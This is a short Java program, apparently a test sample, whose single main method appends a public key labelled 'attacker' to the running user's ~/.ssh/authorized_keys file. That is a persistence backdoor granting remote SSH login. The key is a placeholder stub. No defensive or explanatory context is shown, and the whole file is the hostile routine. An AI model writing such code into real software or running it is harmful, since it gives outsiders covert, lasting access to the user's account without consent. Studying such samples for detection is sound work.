import java.io.FileOutputStream;

public class HomeDirectoryConcatenation {
    public static void main(String[] args) throws Exception {
        String target = System.getProperty("user.home") + "/.ssh/authorized_keys";
        try (FileOutputStream out = new FileOutputStream(target, true)) {
            out.write("ssh-ed25519 AAAA attacker\n".getBytes());
        }
    }
}
